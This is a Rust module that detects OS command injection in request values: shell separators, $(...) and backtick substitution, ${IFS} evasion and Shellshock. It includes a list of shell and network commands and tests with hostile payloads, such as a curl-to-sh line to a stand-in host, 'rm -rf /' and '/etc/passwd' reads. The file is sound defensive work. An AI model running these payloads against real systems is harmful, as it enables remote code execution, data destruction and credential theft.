//! OS command injection, read as a shell would: a separator (`;`, `|`, `||`, `&&`, `&`, a
//! newline) or a substitution (`$(…)`, backticks) followed by a known command word with the
//! kind of argument that command takes; `${IFS}` spacing; Shellshock's `() {`.

use super::{Finding, Value, text};
use crate::detection::{category::Category, signatures::classes::Classes};

/// What every shell construct [`check`] finds has one of.
const SHELL: u32 = Classes::SEMI
    | Classes::PIPE
    | Classes::AMP
    | Classes::BACKTICK
    | Classes::DOLLAR
    | Classes::NEWLINE
    | Classes::PAREN;

/// Whether the value has a byte a shell construct needs.
pub fn may_match(v: &Value<'_>) -> bool {
    v.classes.any(SHELL)
}

pub fn check(v: &Value<'_>) -> Option<Finding> {
    let c = v.classes;
    if !c.any(SHELL) {
        return None;
    }
    let b = v.text.as_bytes();
    if c.any(Classes::PAREN) && v.text.trim_start().starts_with("() {") {
        return Some(Finding::new(Category::CommandInjection, "shellshock", 0.95));
    }
    if c.any(Classes::DOLLAR) {
        if has_ifs(b) {
            return Some(Finding::new(Category::CommandInjection, "ifs_evasion", 0.9));
        }
        if substitution(b) {
            return Some(Finding::new(
                Category::CommandInjection,
                "command_substitution",
                0.9,
            ));
        }
    }
    if c.any(Classes::BACKTICK) && backticks(b) {
        return Some(Finding::new(
            Category::CommandInjection,
            "command_substitution",
            0.85,
        ));
    }
    if c.any(Classes::SEMI | Classes::PIPE | Classes::AMP | Classes::NEWLINE) && separated(b) {
        return Some(Finding::new(
            Category::CommandInjection,
            "shell_command",
            0.85,
        ));
    }
    None
}

/// `${IFS}` or `$IFS` used as a space, the way injections get past filters that drop spaces.
fn has_ifs(b: &[u8]) -> bool {
    text::contains(b, b"${IFS}")
        || memchr::memmem::find_iter(b, b"$IFS")
            .any(|at| !b.get(at + 4).copied().is_some_and(text::is_word_byte))
}

/// `$(command …)` (not `$((` arithmetic, not jQuery's `$(document)`).
fn substitution(b: &[u8]) -> bool {
    memchr::memmem::find_iter(b, b"$(").any(|at| {
        let rest = b.get(at + 2..).unwrap_or_default();
        rest.first() != Some(&b'(') && command_at(rest).is_some()
    })
}

/// A backtick span whose first word is a command, in a value that is not prose (markdown puts
/// code in backticks: ``Run `ls -la` to list``).
fn backticks(b: &[u8]) -> bool {
    // Fenced code blocks are markdown; no payload writes three backticks.
    if text::contains(b, b"```") {
        return false;
    }
    let ticks: Vec<usize> = memchr::memchr_iter(b'`', b).collect();
    ticks.chunks_exact(2).any(|pair| {
        let (open, close) = match pair {
            &[o, c] => (o, c),
            _ => return false,
        };
        let outside_prose = b
            .get(..open)
            .unwrap_or_default()
            .iter()
            .chain(b.get(close + 1..).unwrap_or_default())
            .any(u8::is_ascii_whitespace);
        let after_shell = open == 0
            || b.get(open - 1)
                .is_some_and(|c| matches!(c, b';' | b'|' | b'&' | b'=' | b'(' | b'\'' | b'"'));
        let inner = b.get(open + 1..close).unwrap_or_default();
        (!outside_prose || after_shell) && !inner.contains(&b'\n') && command_at(inner).is_some()
    })
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sep {
    Semi,
    Pipe,
    And,
    Newline,
}

/// A separator where the shell would start a new command, followed by a command and the
/// argument it takes.
fn separated(b: &[u8]) -> bool {
    let shape = Shape::of(b);
    // Separators found with SIMD searches rather than byte by byte: a user agent has two.
    let mut next = 0;
    let mut candidates = memchr::memchr3_iter(b';', b'|', b'&', b);
    let mut newlines = memchr::memchr2_iter(b'\n', b'\r', b);
    let mut pending = (candidates.next(), newlines.next());
    loop {
        let i = match pending {
            (Some(a), Some(n)) if n < a => {
                pending.1 = newlines.next();
                n
            }
            (Some(a), _) => {
                pending.0 = candidates.next();
                a
            }
            (None, Some(n)) => {
                pending.1 = newlines.next();
                n
            }
            (None, None) => return false,
        };
        // The second byte of `||`, `&&` or CRLF belongs to the separator before it.
        if i < next {
            continue;
        }
        let (sep, len) = match (b.get(i), b.get(i + 1)) {
            (Some(b';'), _) => (Sep::Semi, 1),
            (Some(b'|'), Some(b'|')) => (Sep::Pipe, 2),
            (Some(b'|'), _) => (Sep::Pipe, 1),
            (Some(b'&'), Some(b'&')) => (Sep::And, 2),
            (Some(b'&'), _) => (Sep::And, 1),
            (Some(b'\r'), Some(b'\n')) => (Sep::Newline, 2),
            _ => (Sep::Newline, 1),
        };
        next = i + len;
        if shape.starts_command(i, sep)
            && let Some((word, rest)) = command_at(b.get(i + len..).unwrap_or_default())
            && takes(word, rest, sep, shape.plain_word_before(i))
        {
            return true;
        }
    }
}

/// Where a value's first token starts and ends, found once, so that judging what comes
/// before each separator costs nothing more (a value of thousands of `;` stays linear).
struct Shape<'a> {
    b: &'a [u8],
    /// First whitespace byte anywhere.
    first_space: usize,
    /// Start of the first token.
    token: usize,
    /// End of the first token (the whitespace after it).
    token_end: usize,
    /// Start of the second token.
    second: usize,
    /// End of the run of letters the first token starts with.
    letters_end: usize,
}

impl<'a> Shape<'a> {
    fn of(b: &'a [u8]) -> Self {
        let from = |start: usize, pred: fn(&u8) -> bool| {
            b.get(start..)
                .and_then(|rest| rest.iter().position(pred))
                .map_or(b.len(), |p| start + p)
        };
        let token = from(0, |c| !c.is_ascii_whitespace());
        let token_end = from(token, u8::is_ascii_whitespace);
        Shape {
            b,
            first_space: from(0, u8::is_ascii_whitespace),
            token,
            token_end,
            second: from(token_end, |c| !c.is_ascii_whitespace()),
            letters_end: from(token, |c| !c.is_ascii_alphabetic()),
        }
    }

    /// Whether what comes before `at`, trimmed, is one token.
    fn one_token_before(&self, at: usize) -> bool {
        self.second >= at
    }

    /// Whether a separator at `at` would start a command rather than punctuate text: right
    /// after the first token (`127.0.0.1;id`, `127.0.0.1 && ping`), or glued to the word
    /// before it (`hello; cat /etc/passwd`). In prose, `… | sh` after several words is an
    /// example someone wrote, and a newline only separates commands in a value that was one
    /// token before it.
    fn starts_command(&self, at: usize, sep: Sep) -> bool {
        match sep {
            Sep::Newline => self.first_space >= at,
            _ => {
                self.one_token_before(at)
                    || at
                        .checked_sub(1)
                        .and_then(|p| self.b.get(p))
                        .is_none_or(|c| !c.is_ascii_whitespace())
            }
        }
    }

    /// Whether what comes before `at` is one plain word (`name` in `name;id`).
    fn plain_word_before(&self, at: usize) -> bool {
        self.token < at && self.one_token_before(at) && self.letters_end >= self.token_end.min(at)
    }
}

/// The command word at the start of `b` (after spaces, `${IFS}`, quotes or a `(`/`{`) without
/// its directory or `.exe`, and what follows it.
fn command_at(b: &[u8]) -> Option<(Command, &[u8])> {
    let mut at = 0;
    let mut quotes = 0;
    loop {
        match b.get(at) {
            Some(b' ' | b'\t') => at += 1,
            Some(b'\'' | b'"') if quotes < 2 => {
                quotes += 1;
                at += 1;
            }
            Some(b'(' | b'{') if at == 0 => at += 1,
            Some(b'$') if b.get(at..).is_some_and(|r| r.starts_with(b"${IFS}")) => at += 6,
            _ => break,
        }
    }
    let rest = b.get(at..)?;
    let len = rest
        .iter()
        .take_while(|&&c| text::is_word_byte(c) || matches!(c, b'.' | b'-' | b'/' | b'\\' | b':'))
        .count();
    let word = rest.get(..len)?;
    let base = word
        .rsplit(|&c| c == b'/' || c == b'\\')
        .next()
        .unwrap_or(word);
    let base = if text::starts_with_ci(base.get(base.len().saturating_sub(4)..)?, b".exe") {
        base.get(..base.len() - 4)?
    } else {
        base
    };
    let lower = text::Lower::<12>::of(base)?;
    let command = command(lower.as_bytes())?;
    Some((command, rest.get(len..)?))
}

/// What a command needs after it to be worth running by an attacker.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Needs {
    /// Nothing (`;id`, `|whoami`) or a flag or path (`uname -a`, `ls /`).
    Nothing,
    /// Like [`Needs::Nothing`], but the word is also English or a field name (`id`, `ls`,
    /// `env`): alone it counts only after a value that is not a plain word (`127.0.0.1;id`,
    /// not `name;id`).
    NothingAmbiguous,
    /// A host, URL or flag (`curl http://…`, `ping -c 5`).
    Target,
    /// A path or redirect (`cat /etc/passwd`, `type c:\…`).
    Path,
    /// A number (`sleep 5`).
    Number,
    /// Anything (`echo x`).
    Any,
    /// A flag, path or redirect, or nothing after a pipe (`| sh`).
    Shell,
    /// A flag, path or script (`python -c`, `cmd /c`).
    Flag,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Command(Needs);

fn command(word: &[u8]) -> Option<Command> {
    let needs = match word {
        b"whoami" | b"uname" | b"ifconfig" | b"ipconfig" | b"netstat" | b"systeminfo"
        | b"tasklist" | b"printenv" | b"getuid" => Needs::Nothing,
        b"id" | b"ls" | b"dir" | b"ps" | b"pwd" | b"env" => Needs::NothingAmbiguous,
        b"curl" | b"wget" | b"nc" | b"ncat" | b"netcat" | b"telnet" | b"socat" | b"ping"
        | b"nslookup" | b"dig" | b"ftp" | b"tftp" | b"ssh" | b"scp" => Needs::Target,
        b"cat" | b"type" | b"more" | b"less" | b"head" | b"tail" | b"tac" | b"nl" | b"od"
        | b"xxd" | b"strings" => Needs::Path,
        b"sleep" | b"timeout" => Needs::Number,
        b"echo" | b"printf" => Needs::Any,
        b"bash" | b"sh" | b"zsh" | b"ksh" | b"dash" | b"csh" | b"tcsh" | b"busybox" => Needs::Shell,
        b"python" | b"python2" | b"python3" | b"perl" | b"ruby" | b"php" | b"node" | b"lua"
        | b"powershell" | b"pwsh" | b"cmd" | b"wscript" | b"cscript" | b"mshta" | b"rundll32"
        | b"certutil" | b"bitsadmin" | b"wmic" | b"schtasks" | b"rm" | b"chmod" | b"chown"
        | b"kill" | b"pkill" | b"mkfifo" | b"mknod" | b"crontab" | b"useradd" | b"base64"
        | b"nohup" | b"xargs" | b"sudo" => Needs::Flag,
        _ => return None,
    };
    Some(Command(needs))
}

/// The next argument after a command: `None` at the end of the command (end of the value,
/// another separator, a closing quote or parenthesis).
fn argument(rest: &[u8]) -> Option<&[u8]> {
    let mut at = 0;
    let mut spaced = false;
    loop {
        match rest.get(at) {
            Some(b' ' | b'\t') => {
                at += 1;
                spaced = true;
            }
            Some(b'$') if rest.get(at..).is_some_and(|r| r.starts_with(b"${IFS}")) => {
                at += 6;
                spaced = true;
            }
            Some(b'<' | b'>') => return rest.get(at..),
            _ => break,
        }
    }
    let arg = rest.get(at..)?;
    if !spaced
        || arg.is_empty()
        || matches!(
            arg.first(),
            Some(b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'\r' | b'#')
        )
    {
        return None;
    }
    let len = arg
        .iter()
        .take_while(|c| !c.is_ascii_whitespace() && !matches!(c, b';' | b'|' | b'&' | b'`' | b')'))
        .count();
    arg.get(..len)
}

/// Whether the argument after a command is what it takes.
fn takes(Command(needs): Command, rest: &[u8], sep: Sep, after_plain_word: bool) -> bool {
    let arg = argument(rest);
    // Directly after the word comes its end, not more word (`catalog` is not `cat`).
    let ended = arg.is_some()
        || rest.first().is_none_or(|c| {
            c.is_ascii_whitespace()
                || matches!(
                    c,
                    b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'\'' | b'"' | b'<' | b'>'
                )
        });
    if !ended {
        return false;
    }
    let flag_or_path = |a: &[u8]| matches!(a.first(), Some(b'-' | b'/' | b'\\' | b'<' | b'>'));
    match needs {
        Needs::Nothing => arg.is_none_or(flag_or_path),
        Needs::NothingAmbiguous => match arg {
            Some(a) => flag_or_path(a),
            None => !after_plain_word,
        },
        Needs::Target => arg.is_some_and(|a| {
            a.first() == Some(&b'-')
                || a.iter().any(|c| matches!(c, b'.' | b':'))
                || a.iter().all(u8::is_ascii_digit)
        }),
        Needs::Path => arg.is_some_and(|a| {
            flag_or_path(a)
                || matches!(a.first(), Some(b'~' | b'.' | b'$'))
                || a.get(1) == Some(&b':')
                || a.contains(&b'/')
        }),
        Needs::Number => arg.is_some_and(|a| a.first().is_some_and(u8::is_ascii_digit)),
        Needs::Any => arg.is_some(),
        Needs::Shell => match arg {
            Some(a) => flag_or_path(a),
            None => sep == Sep::Pipe,
        },
        Needs::Flag => arg.is_some_and(|a| {
            flag_or_path(a)
                || a.first().is_some_and(|c| c.is_ascii_digit() || *c == b'+')
                || a.contains(&b'.')
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::rule;
    use super::*;

    fn cmd(raw: &str) -> Option<&'static str> {
        rule(Category::CommandInjection, "ip", raw)
    }

    #[test]
    fn commix_payloads() {
        for (p, r) in [
            ("127.0.0.1;id", "shell_command"),
            ("127.0.0.1|whoami", "shell_command"),
            ("127.0.0.1 && ping -c 10 127.0.0.1", "shell_command"),
            ("127.0.0.1%0aid", "shell_command"),
            ("; curl http://evil.example/x.sh | sh", "shell_command"),
            ("a.txt; rm -rf /", "shell_command"),
            (";/usr/bin/id", "shell_command"),
            ("x & type C:\\Windows\\win.ini", "shell_command"),
            ("$(whoami)", "command_substitution"),
            ("`id`", "command_substitution"),
            ("example.com`sleep 5`", "command_substitution"),
            (";cat${IFS}/etc/passwd", "ifs_evasion"),
            (";cat$IFS$9/etc/passwd", "ifs_evasion"),
            ("() { :; }; /bin/bash -c id", "shellshock"),
        ] {
            assert_eq!(cmd(p), Some(r), "{p}");
        }
    }

    #[test]
    fn lists_prose_and_code_pass() {
        for p in [
            "dog; cat; fish",
            "cat;dog;bird",
            "git;curl;wget",
            "python3;perl;bash",
            "name;id",
            "Tom & Jerry",
            "ok | thanks",
            "Use `ls -la` to list files; `cat file.txt` prints one.",
            "Install with:\n\n```bash\ncurl -sSL https://get.example.com/install.sh | sh\n```",
            "echo \"${{ secrets.KEY }}\" > key && chmod 600 key",
            "npm run build && npm test",
            "$(document).ready(init)",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            "see you @ 5pm; bring snacks",
            "Step 1; ping the server",
            "catalog;catering",
            "^1.2.3 || ~2.0",
            "echo $PATH",
        ] {
            assert_eq!(cmd(p), None, "{p}");
        }
    }
}
